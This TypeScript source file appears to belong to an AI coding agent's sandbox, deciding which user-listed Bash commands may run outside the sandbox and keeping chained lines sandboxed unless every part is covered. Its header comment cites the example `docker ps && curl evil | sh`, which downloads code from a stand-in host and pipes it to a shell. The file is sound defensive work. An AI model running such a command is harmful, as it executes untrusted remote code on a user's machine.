// `sandbox.excludedCommands`: the commands a user lets run outside the sandbox (after the normal
// gate). An entry is a Bash rule specifier (`docker`, `docker compose:*`, `git push *`); a bare
// command name covers that program with any arguments. A line is excluded only when it is understood
// with certainty and every simple command in it is covered (wrappers such as `time` are transparent),
// so `docker ps && curl evil | sh` stays in the sandbox.
import { analyseBash, type BashPattern, parseBashPattern } from "../shell/index.js";
import { coversCommand } from "./match-rule.js";

type ExcludedCommands = (command: string, cwd: string) => boolean;

/** Throws an Error naming the entry when one is not a valid Bash specifier. */
export function excludedCommands(entries: readonly string[], homeDir: string): ExcludedCommands {
  const patterns: BashPattern[] = entries.map((entry) => {
    const text = entry.trim();
    const specifier = /[*:\s]/.test(text) ? text : `${text}:*`;
    const pattern = parseBashPattern(specifier);
    if (typeof pattern === "string") throw new Error(`sandbox.excludedCommands entry "${entry}": ${pattern}`);
    return pattern;
  });
  if (patterns.length === 0) return () => false;
  return (command, cwd) => {
    const analysis = analyseBash(command, { cwd, homeDir });
    if (analysis.kind !== "analysed" || analysis.reasons.length > 0) return false;
    const commands = analysis.commands.filter((candidate) => !candidate.transparent);
    return (
      commands.length > 0 &&
      commands.every((candidate) => patterns.some((pattern) => coversCommand(pattern, candidate)))
    );
  };
}
